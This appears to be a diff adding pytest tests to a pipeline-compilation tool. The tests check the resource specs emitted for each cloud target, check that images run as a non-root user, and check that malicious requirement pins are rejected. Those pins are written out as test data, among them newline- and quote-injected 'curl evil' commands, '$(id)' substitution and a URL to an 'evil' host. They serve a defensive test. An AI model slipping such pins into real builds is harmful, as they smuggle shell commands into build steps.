@@ -8,7 +8,7 @@ import zipfile
 from pathlib import Path
 
 import pytest
-from kitaru_targets import build, bundle, delivery
+from kitaru_targets import build, bundle, delivery, registry
 
 from kitaru.errors import StateError, UsageError
 
@@ -131,3 +131,53 @@ def test_a_project_cannot_shadow_the_bundles_own_files() -> None:
         with pytest.raises(UsageError, match="name that the bundle needs"):
             bundle.make({name: b""}, {}, with_runtime=True)
     bundle.make({"steps.py": b"", "plan.json": b"", "kitarus.py": b""}, {}, with_runtime=True)
+
+
+WHOLE = """
+    from kitaru import checkpoint, flow
+
+    @checkpoint(memory="100k")
+    def small(topic: str) -> str: return topic
+
+    @checkpoint(cpu=4, memory="12Gi")
+    def large(topic: str) -> str: return topic
+
+    @flow
+    def main(topic: str) -> int:
+        return len([locals(), small(topic), large(topic)])
+"""
+# How each target writes 12 GiB and four cores.
+ASKED = {
+    "kubeflow": 'resourceMemoryLimit: "12Gi"',
+    "vertex": 'resourceMemoryLimit: "12Gi"',
+    "sagemaker": '"InstanceType": "ml.m5.xlarge"',
+    "azureml": 'instance_type: "Standard_DS3_v2"',
+    "airflow": "'memory': '12Gi'",
+}
+
+
+@pytest.mark.parametrize("target", ASKED)
+def test_a_flow_that_is_not_cut_asks_for_what_its_checkpoints_need(target: str, make: Make) -> None:
+    made = make(WHOLE, target, image="registry/flows:1")
+    assert len(made.plan.steps) == 1
+    assert ASKED[target] in made.document.read_text()
+
+
+@pytest.mark.parametrize(
+    "pin",
+    [
+        "a==1\nRUN curl evil", 'a==1" && curl evil "', "--index-url==1", "-r==x", "a==1 # x==",
+        "a==$(id)", "a==1\n", "a @ https://evil/a==1", "a==1; python_version>'3'",
+    ],
+)  # fmt: skip
+def test_what_is_no_pin_reaches_no_shell(make: Make, pin: str) -> None:
+    plan = make(REVIEW).plan.replace(requirements=(pin,))
+    with pytest.raises(UsageError, match="cannot be required by a step"):
+        delivery.requirements(plan)
+
+
+@pytest.mark.parametrize("target", [*registry.names()])
+def test_images_run_as_no_root_and_on_a_base_that_can_be_named(make: Make, target: str) -> None:
+    lines = (make(REVIEW, target).directory / "Dockerfile").read_text().splitlines()
+    assert ("USER 10001" in lines) == (target != "sagemaker")
+    assert lines.index("ARG BASE=python:3.11-slim") + 1 == lines.index("FROM ${BASE}")
